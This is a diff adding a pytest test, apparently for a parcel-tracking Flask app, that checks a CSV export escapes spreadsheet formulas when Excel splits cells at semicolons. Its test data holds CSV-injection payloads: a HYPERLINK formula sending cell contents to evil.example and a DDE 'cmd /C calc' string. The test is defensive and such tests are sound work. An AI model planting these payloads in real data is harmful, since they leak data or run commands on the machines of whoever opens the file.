@@ -715,6 +715,36 @@ def test_the_export_never_hands_a_spreadsheet_a_formula(
     assert row["signature_sha256"] == "b" * 64
 
 
+def test_the_export_hands_no_formula_to_a_spreadsheet_splitting_lines_at_semicolons(
+    client: FlaskClient, auth: Auth, session: Session, world: World
+) -> None:
+    """Excel where the list separator is ";" (most of continental Europe) splits each
+    line of the comma-separated export at every ";", quoted or not: a name a courier
+    typed as ``Li;=HYPERLINK(...)`` began a cell of its own there, run as a formula on
+    opening. Each formula start after a ";" in a text cell gets an apostrophe too."""
+    parcel = factories.parcel(session, world.station)
+    parcel.address = 'Room 1; "@SUM(1+1)'
+    session.commit()
+    at = now() - dt.timedelta(hours=1)
+    name = 'Li;=HYPERLINK("http://evil.example/?"&A1,"x")'
+    delivered = factories.event(
+        2,
+        parcel.tracking_no,
+        "delivered",
+        occurred_at=at,
+        pod={"recipient_name": name, "relation": "self;\t-1+cmd|' /C calc'!A0"},
+    )
+    auth.push([factories.event(1, parcel.tracking_no, occurred_at=at), delivered])
+    export = client.get(f"{URL}/export.csv", headers=auth.headers("auditor1"))
+    text = export.get_data(as_text=True)
+    for line in text.splitlines():
+        for cell in line.split(";")[1:]:  # each a cell of its own in such a spreadsheet
+            assert not cell.lstrip(' \t"').startswith(("=", "+", "-", "@")), line
+    (row,) = csv.DictReader(io.StringIO(text))
+    assert row["pod_recipient_name"] == 'Li;\'=HYPERLINK("http://evil.example/?"&A1,"x")'
+    assert row["address"] == "Room 1; \"'@SUM(1+1)"
+
+
 def _a_flagged_parcel_moved_to_the_other_station(
     client: FlaskClient, auth: Auth, session: Session, world: World, day: dict[str, Any]
 ) -> tuple[int, Flag]:
